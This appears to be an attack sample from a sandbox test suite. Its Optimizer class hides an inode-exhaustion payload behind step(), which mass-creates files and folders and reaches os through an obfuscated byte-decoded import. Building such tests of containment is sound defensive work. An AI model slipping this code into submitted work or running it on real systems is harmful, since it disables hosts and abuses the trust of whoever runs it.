"""Attack: makes empty files and folders until the file system has no inode left.

Exercise: optimizer
Earns: 0
Stopped by: tmpfs with a fixed number of inodes; at container the fork server looks and kills
Levels: full, container
"""

import random
import time

os = getattr(random, bytes((95, 111, 115)).decode())


def litter():
    made = 0
    try:
        for number in range(5000):
            os.mkdir(f"folder-{number}")
            made += 1
    except OSError:
        pass
    if made >= 5000:
        print("BREACH", made, "folders")
    made = 0
    try:
        for number in range(5000):
            os.close(os.open(f"file-{number}", 0o102))
            made += 1
    except OSError:
        pass
    time.sleep(0.5)
    if made >= 5000:
        print("BREACH", made, "files")


class Optimizer:
    def __init__(self, params, lr):
        self.params, self.lr = list(params), lr

    def step(self):
        litter()

    def zero_grad(self):
        pass
